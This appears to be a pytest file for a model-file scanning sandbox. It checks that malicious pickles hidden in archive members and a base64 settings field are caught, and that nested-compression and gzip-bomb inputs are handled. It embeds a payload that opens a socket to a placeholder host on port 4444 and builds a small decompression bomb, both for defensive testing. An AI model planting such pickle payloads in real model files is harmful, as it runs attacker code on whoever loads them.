"""Payloads inside of archives and compressed files: found, run under watch, and told with their member."""

from __future__ import annotations

import base64
import gzip
import json
import pickle
from pathlib import Path

import pytest
import torch

from sandbox.controller import evaluate
from sandbox.facts import Report, Verdict
from sandbox.request import Request
from tests.jail.payloads import running
from tests.zoo_archives import saved, tarred, zipped

pytestmark = [pytest.mark.jail, pytest.mark.one_jail]

CONNECT = "import socket; socket.create_connection(('203.0.113.7', 4444), 1)"
HARMLESS = pickle.dumps({"step": 1}, 4)


@pytest.fixture
def payload(tmp_path: Path) -> bytes:
    return running(CONNECT, tmp_path / "payload.pkl").read_bytes()


def report_of(content: bytes, folder: Path) -> Report:
    model = folder / "model.bin"
    model.write_bytes(content)
    return evaluate(Request(model, output=folder / "out.safetensors", jail="bubblewrap"))


def evidence(report: Report) -> str:
    return "\n".join(line for finding in report.findings for line in finding.evidence)


def test_in_a_member_of_a_model_archive(payload: bytes, tmp_path: Path) -> None:
    members = {"config.json": b"{}", "nested/weights.th": payload, "other.pkl": HARMLESS}
    report = report_of(gzip.compress(tarred(members)), tmp_path)
    assert report.verdict == Verdict.MALICIOUS
    assert "nested/weights.th offset" in evidence(report)
    assert "net.connect" in {event.kind for event in report.dynamic.events}


def test_among_the_settings_of_stable_baselines(payload: bytes, tmp_path: Path) -> None:
    data = {"gamma": 0.9, "lr_schedule": {":serialized:": base64.b64encode(payload).decode()}}
    report = report_of(zipped({"data": json.dumps(data).encode(), "policy.pth": HARMLESS}), tmp_path)
    assert report.verdict == Verdict.MALICIOUS
    assert "data!lr_schedule offset" in evidence(report)
    assert "net.connect" in {event.kind for event in report.dynamic.events}


def test_what_the_reader_did_not_come_to_is_not_loaded(tmp_path: Path) -> None:
    """torch, imported only then, would start threads and ask for CPUs, which looks like an attack."""
    content = saved({"w": torch.ones(2)})
    for _ in range(10):
        content = gzip.compress(content)
    report = report_of(content, tmp_path)
    assert report.verdict == Verdict.INCONCLUSIVE
    assert "more than 8 deep" in report.summary


def test_a_bomb_writes_nothing(tmp_path: Path) -> None:
    content = gzip.compress(gzip.compress(bytes(150 << 20)))
    assert len(content) < 1 << 20
    report = report_of(content, tmp_path)
    assert report.verdict == Verdict.SUSPICIOUS
    assert "inflates far beyond" in report.summary
    assert not (tmp_path / "out.safetensors").exists()
